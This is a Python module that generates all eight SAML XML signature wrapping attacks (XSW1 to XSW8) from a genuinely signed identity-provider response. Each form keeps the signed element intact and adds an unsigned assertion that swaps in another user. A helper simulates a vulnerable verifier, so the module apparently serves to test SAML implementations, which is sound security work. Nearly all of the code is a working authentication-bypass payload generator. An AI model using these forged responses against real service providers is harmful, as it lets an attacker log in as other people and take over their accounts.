"""Signature wrapping: the eight forms by the names they are known by (XSW1 to XSW8 of SAML Raider, after Somorovsky
and others), made of a response that an identity provider has signed.

Each holds what was signed unchanged, and somebody else as the user: a reader that has the signature checked and
then takes the user from wherever it finds one signs that one in.
"""

import base64
import hashlib
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from xml.dom import minidom
from xml.etree import ElementTree

SAML2 = "urn:oasis:names:tc:SAML:2.0"
SIGNATURE = re.compile(r"<ds:Signature\b.*?</ds:Signature>", re.S)
USER, EVIL = "alice@corp.test", "bob@corp.test"


@dataclass(frozen=True)
class Signed:
    """A signed element, and what is made of it."""

    xml: str
    # The element as it is, its own signature, and it without that.
    original: str
    signature: str
    bare: str
    # The same for another user, without any signature.
    evil: str

    @classmethod
    def find(cls, xml: str, name: str, identifier: str | None) -> "Signed":
        """The first element of this name; what it is made into has another identifier, if there is one."""
        original = re.search(rf"<{name}\b.*</{name}>", xml, re.S).group(0)
        signature = SIGNATURE.search(original).group(0)
        evil = SIGNATURE.sub("", original).replace(USER, EVIL)
        if identifier:
            evil = re.sub(r'\bID="[^"]*"', f'ID="{identifier}"', evil, count=1)
        return cls(xml, original, signature, original.replace(signature, "", 1), evil)

    def put(self, content: str) -> str:
        """The document with this in the place of the element."""
        return self.xml.replace(self.original, content, 1)


def signed_first(element: str, signature: str) -> str:
    """With a signature where the own one would be, behind the issuer."""
    head, issuer, tail = element.partition("</saml:Issuer>")
    return head + issuer + signature + tail


def last_in(element: str, content: str) -> str:
    head, _, end = element.rpartition("</")
    return f"{head}{content}</{end}"


def xsw1(of: Signed) -> str:
    """The signature of another Response holds the one that it signs."""
    return of.put(signed_first(of.evil, last_in(of.signature, of.bare)))


def xsw2(of: Signed) -> str:
    """The Response that is signed stands before the signature, both in another one."""
    return of.put(signed_first(of.evil, of.bare + of.signature))


def xsw3(of: Signed) -> str:
    """Another assertion before the one that is signed."""
    return of.put(of.evil + of.original)


def xsw4(of: Signed) -> str:
    """Another assertion around the one that is signed."""
    return of.put(last_in(of.evil, of.original))


def xsw5(of: Signed) -> str:
    """Another assertion has the signature; the one that it signs is the last element of the Response."""
    return last_in(of.put(signed_first(of.evil, of.signature)), of.bare)


def xsw6(of: Signed) -> str:
    """Another assertion has the signature, and that holds the one that it signs."""
    return of.put(signed_first(of.evil, last_in(of.signature, of.bare)))


def xsw7(of: Signed) -> str:
    """Another assertion in extensions, where any element may stand."""
    return of.put(f"<samlp:Extensions>{of.evil}</samlp:Extensions>{of.original}")


def xsw8(of: Signed) -> str:
    """Another assertion has the signature, which holds the one that it signs in an Object."""
    return of.put(signed_first(of.evil, last_in(of.signature, f"<ds:Object>{of.bare}</ds:Object>")))


OF_RESPONSES = (xsw1, xsw2)
OF_ASSERTIONS = (xsw3, xsw4, xsw5, xsw6, xsw7, xsw8)


def wrapped(form: Callable[[Signed], str], xml: str, identifier: str | None) -> str:
    name = "samlp:Response" if form in OF_RESPONSES else "saml:Assertion"
    return form(Signed.find(xml, name, identifier))


def without_outer_signature(xml: str) -> str:
    """A response of which the assertion alone is signed; that signature is as good as before."""
    head, _, tail = xml.partition("<saml:Assertion")
    return SIGNATURE.sub("", head) + "<saml:Assertion" + tail


def naive_users(xml: str) -> set[str]:
    """Whom a reader may take for the user that has a signature checked without a look at where it stands: the one
    of the first assertion, or of the first in its usual place. Nobody if what was signed is no longer there."""
    document = minidom.parseString(xml)
    signature = document.getElementsByTagName("ds:Signature")[0]
    expected = text(signature.getElementsByTagName("ds:DigestValue")[0])
    if not any(digest(each) == expected for each in referenced(document, signature)):
        return set()
    assertions = document.getElementsByTagName("saml:Assertion")
    outer = [each for each in assertions if each.parentNode is document.documentElement]
    return {user for each in (assertions, outer) for user in own_users(each[0])}


def own_users(assertion: minidom.Element) -> Iterator[str]:
    names = assertion.getElementsByTagName("saml:NameID")
    return (text(name) for name in names if name.parentNode.parentNode is assertion)


def text(element: minidom.Element) -> str:
    return "".join(node.data for node in element.childNodes).strip()


def referenced(document: minidom.Document, signature: minidom.Element) -> Iterator[minidom.Element]:
    """The elements that have the identifier which the signature names."""
    name = signature.getElementsByTagName("ds:Reference")[0].getAttribute("URI").removeprefix("#")
    return (each for each in document.getElementsByTagName("*") if each.getAttribute("ID") == name)


def digest(element: minidom.Element) -> str:
    """Of the element without its own signature, as signatures hold it."""
    copy = element.cloneNode(True)
    for child in list(copy.childNodes):
        if child.nodeName == "ds:Signature":
            copy.removeChild(child)
    # What the elements around it declare holds in it, too.
    above = element.parentNode
    while isinstance(above, minidom.Element):
        for name, value in above.attributes.items():
            if name.startswith("xmlns:") and not copy.hasAttribute(name):
                copy.setAttribute(name, value)
        above = above.parentNode
    canonical = ElementTree.canonicalize(copy.toxml()).encode()
    return base64.b64encode(hashlib.sha256(canonical).digest()).decode()
